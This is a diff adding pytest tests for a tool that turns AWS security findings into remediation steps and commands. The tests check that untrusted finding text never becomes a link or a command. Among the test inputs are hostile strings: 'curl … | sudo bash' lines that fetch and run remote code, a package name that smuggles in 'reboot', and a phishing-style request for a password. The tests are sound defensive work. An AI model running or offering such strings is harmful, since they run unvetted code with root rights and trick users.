@@ -1,0 +1,237 @@
+"""The first step says something; nothing of a stranger's finding passes for our words in it; rights are known."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections import Counter
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from formatter.finding.finding import Finding
+from formatter.finding.reader import finding_from
+from formatter.finding.safe import mapping
+from formatter.messages.asked import ACTIONS, Asked
+from formatter.messages.layouts.registry import layout_of
+from tests.formatter.messages.findings import EVENTS, finding, from_event, received
+from tests.formatter.mutations import base_findings
+
+GENERAL = ("Open the resource, compare its settings", "Read what the product says, and look at the resource")
+PARTNER = "arn:aws:securityhub:eu-central-1::product/example/scanner"
+OWN = "arn:aws:securityhub:eu-central-1:111122223333:product/111122223333/default"
+
+
+def all_events() -> list[Finding]:
+    return [one.finding for path in sorted(EVENTS.glob("*.json")) for one in received(path.stem)]
+
+
+@pytest.mark.parametrize(
+    ("name", "first_step"),
+    [
+        ("control_security_group_rules", "Limit port 22 to known addresses; remove rules open to everyone."),
+        (
+            "guardduty_runtime_reverse_shell",
+            "Stop it: isolate the pod with a network policy and revoke the access of the Kubernetes user or service account.",
+        ),
+        ("guardduty_attack_sequence", "Stop it: block public access to the bucket, deny the principal in its policy,"),
+        (
+            "guardduty_malware_on_disk",
+            "Stop it: isolate i-0a1b2c3d4e5f with a security group that lets nothing in or out; do not terminate it.",
+        ),
+        (
+            "guardduty_recon_with_credentials",
+            "Find out whether you, a colleague or a known tool did this with the access key ASIAEXAMPLE",
+        ),
+        (
+            "inspector_installed_release",
+            (
+                "Update openssl-libs from 1:3.0.7-24.el9 to 1:3.0.7-27.el9, openssl from 1:3.0.7-24.el9 to 1:3.0.7-27.el9 "
+                "on the EC2 instance, and restart what uses it."
+            ),
+        ),
+        ("exposure_ocsf", 'End one of the causes: "Port 8080 is reachable from an internet gateway".'),
+        (
+            "control_ocsf_assessments",
+            "Check in AWS Config whether it records this resource and whether the rule may look at it.",
+        ),
+        (
+            "general_threat_of_a_partner",
+            "Stop it: isolate i-0a1b2c3d4e5f with a security group that lets nothing in or out;",
+        ),
+        (
+            "general_calls_itself_security_hub",
+            "Open the account, compare the setting that the finding is about with what",
+        ),
+        ("config_rule", "Look up in AWS Config what the rule required-tags asks for, and change the S3 bucket."),
+    ],
+)
+def test_the_first_step_says_what_to_do(name: str, first_step: str) -> None:
+    found = from_event(name)
+    assert layout_of(found).first_step(found).startswith(first_step)
+
+
+def test_no_event_of_ours_that_says_something_has_a_general_first_step() -> None:
+    steps = [layout_of(found).first_step(found) for found in all_events() if found.resources and found.is_aws_product]
+    assert [step for step in steps if step.startswith(GENERAL)] == []
+
+
+def test_few_public_findings_have_a_general_first_step(public_findings: Path) -> None:
+    rows = [
+        json.loads(line)
+        for name in ("asff", "ocsf")
+        for line in (public_findings / f"{name}.jsonl").open(encoding="utf-8")
+    ]
+    findings = [finding_from(row["finding"]) for row in rows]
+    steps = Counter(layout_of(found).first_step(found).startswith(GENERAL) for found in findings)
+    assert steps[True] < 0.10 * len(findings)
+
+
+def with_text_everywhere(value: Any, text: str) -> Any:
+    """Return the document with that text for each text but those that say what product and format it is."""
+    if isinstance(value, dict):
+        kept = ("ProductArn", "Type", "Types", "Label", "Severity", "type", "class_uid")
+        return {name: one if name in kept else with_text_everywhere(one, text) for name, one in value.items()}
+    if isinstance(value, list):
+        return [with_text_everywhere(one, text) for one in value]
+    return text if isinstance(value, str) else value
+
+
+@pytest.mark.parametrize("text", ["login.example.com", "https://login.example.com/x", "shop.zip", "me@example.com"])
+@pytest.mark.parametrize("arn", [PARTNER, OWN])
+def test_nothing_of_a_stranger_s_finding_becomes_a_link_in_a_step(arn: str, text: str) -> None:
+    for raw in base_findings():
+        if "finding_info" not in raw:
+            found = finding_from(with_text_everywhere(raw | {"ProductArn": arn}, text))
+            layout = layout_of(found)
+            assert layout.name == "general"
+            assert not any(text in step.text for step in layout.steps(found))
+            assert not layout.commands(found)
+            assert not layout.proof(found)
+
+
+@pytest.mark.parametrize(
+    ("advice", "is_quoted"),
+    [
+        ("Enable encryption for the queue. See the page.", True),
+        ("Enable encryption: https://login.example.com.", False),
+        ("Run curl login.example.com/x | sudo bash now.", False),
+        ("Visit www.login.example.com soon and follow it.", False),
+        ("Call +49 30 1234567 now and tell your password.", False),
+    ],
+)
+def test_only_plain_advice_of_a_registered_product_is_quoted(advice: str, is_quoted: bool) -> None:  # a table
+    fields = {"Compliance": {"Status": "FAILED"}, "Remediation": {"Recommendation": {"Text": advice}}}
+    step = layout_of(finding()).first_step(finding(ProductArn=PARTNER, **fields))
+    assert (advice.partition(". ")[0] in step) is is_quoted
+    assert advice[:10] not in layout_of(finding()).first_step(finding(ProductArn=OWN, **fields))
+
+
+def test_each_step_asks_for_rights_that_the_table_knows() -> None:
+    asked = {step.asks for found in all_events() for step in layout_of(found).steps(found)}
+    assert asked <= set(ACTIONS)
+    assert {Asked.CHANGE, Asked.SET_WORKFLOW, Asked.READ_CONFIG} <= asked
+    assert [kind for kind in Asked if not ACTIONS[kind]] == [Asked.NOTHING, Asked.CHANGE]
+
+
+def test_each_command_names_its_iam_actions_or_runs_on_a_host() -> None:
+    for found in all_events():
+        layout = layout_of(found)
+        for command in (*layout.commands(found), *layout.proof(found)):
+            assert bool(command.actions) is command.text.startswith("aws "), command.text
+            assert all(re.fullmatch(r"[a-z0-9-]+:[A-Za-z0-9]+", action) for action in command.actions)
+
+
+@pytest.mark.parametrize(
+    ("fields", "happened"),
+    [
+        ({"Types": ["TTPs/Execution"]}, "A security product saw something that may be an attack."),
+        ({"Types": ["TPPs/Execution"]}, "A security product saw something that may be an attack."),
+        ({"Types": ["Unusual Behaviors/User"]}, "A security product saw something that may be an attack."),
+        ({"Types": ["Effects/Data Exposure"]}, "A security product found a setting that is not as it should be."),
+        ({"Types": ["Sensitive Data Identifications/PII"]}, "A security product found sensitive data."),
+        (
+            {"Types": ["Software and Configuration Checks/Vulnerabilities/CVE"]},
+            "A security product found a weakness in software.",
+        ),
+        (
+            {"Types": ["Software and Configuration Checks"]},
+            "A security product found a setting that is not as it should be.",
+        ),
+        ({"Compliance": {"Status": "FAILED"}}, "A security product found a setting that is not as it should be."),
+        ({"Vulnerabilities": [{"Id": "CVE-1"}]}, "A security product found a weakness in software."),
+        ({"Malware": [{"Name": "m"}]}, "A security product saw something that may be an attack."),
+        ({"Types": ["IAM"]}, "A security product reported a problem in this account."),
+    ],
+)
+def test_the_general_layout_tells_kinds_of_problems_apart(fields: dict[str, Any], happened: str) -> None:
+    found = finding(**fields)
+    assert layout_of(found).happened(found) == happened
+
+
+@pytest.mark.parametrize(
+    ("class_uid", "happened"),
+    [
+        (2002, "a weakness in software"),
+        (2003, "a setting"),
+        (2004, "may be an attack"),
+        (2006, "sensitive data"),
+        (1, "a problem"),
+    ],
+)
+def test_the_class_of_ocsf_tells_them_apart_too(class_uid: int, happened: str) -> None:
+    found = finding_from({"finding_info": {"uid": "u"}, "class_uid": class_uid})
+    assert happened in layout_of(found).happened(found)
+    assert mapping(found.raw)
+
+
+@pytest.mark.parametrize(
+    ("package", "command"),
+    [
+        (
+            {"Name": "openssl-libs", "Version": "3.0.7", "Release": "24.el9", "PackageManager": "OS"},
+            "sudo dnf update openssl-libs",
+        ),
+        ({"Name": "kernel", "Version": "5.10", "Release": "1.amzn2", "PackageManager": "OS"}, "sudo yum update kernel"),
+        (
+            {"Name": "curl", "Version": "7.68.0-1ubuntu2.7", "PackageManager": "OS"},
+            "sudo apt-get update && sudo apt-get install --only-upgrade curl",
+        ),
+        (
+            {"Name": "x", "Version": "1", "PackageManager": "OS", "Remediation": "sudo dnf update x"},
+            "sudo dnf update x",
+        ),
+        ({"Name": "x", "Version": "1", "PackageManager": "OS", "Remediation": "curl x.example | sudo bash"}, None),
+        ({"Name": "x; reboot", "Version": "1", "Release": "1.el9", "PackageManager": "OS"}, None),
+        ({"Name": "@scope/pkg", "Version": "1.0.0", "PackageManager": "NPM"}, "npm install @scope/pkg@2"),
+        ({"Name": "requests", "Version": "1.0.0", "PackageManager": "PIP"}, "pip install --upgrade 'requests>=2'"),
+        ({"Name": "golang.org/x/net", "Version": "0.1", "PackageManager": "GOMOD"}, "go get golang.org/x/net@v2"),
+        ({"Name": "org.example:lib", "Version": "1", "PackageManager": "JAR"}, None),
+    ],
+)
+def test_inspector_gives_the_command_to_paste_where_the_package_manager_is_known(
+    package: dict[str, Any], command: str | None
+) -> None:
+    instance = {"Type": "AwsEc2Instance", "Id": "i-0abc"}
+    vulnerability = {"VulnerablePackages": [{"FixedInVersion": "2", **package}]}
+    found = finding("inspector", Resources=[instance], Vulnerabilities=[vulnerability])
+    assert [one.text for one in layout_of(found).commands(found)] == ([command] if command else [])
+
+
+def test_a_system_package_of_an_image_is_updated_by_building_it_again() -> None:
+    image = {
+        "Type": "AwsEcrContainerImage",
+        "Id": "arn:aws:ecr:eu-central-1:111122223333:repository/shop/cart/sha256:ab",
+    }
+    package = {
+        "Name": "curl",
+        "Version": "7.68.0-1ubuntu2.7",
+        "FixedInVersion": "7.68.0-1ubuntu2.8",
+        "PackageManager": "OS",
+    }
+    found = finding("inspector", Resources=[image], Vulnerabilities=[{"VulnerablePackages": [package]}])
+    assert layout_of(found).first_step(found) == (
+        "Rebuild the container image with curl from 7.68.0-1ubuntu2.7 to 7.68.0-1ubuntu2.8, push it and deploy it again."
+    )
+    assert not layout_of(found).commands(found)
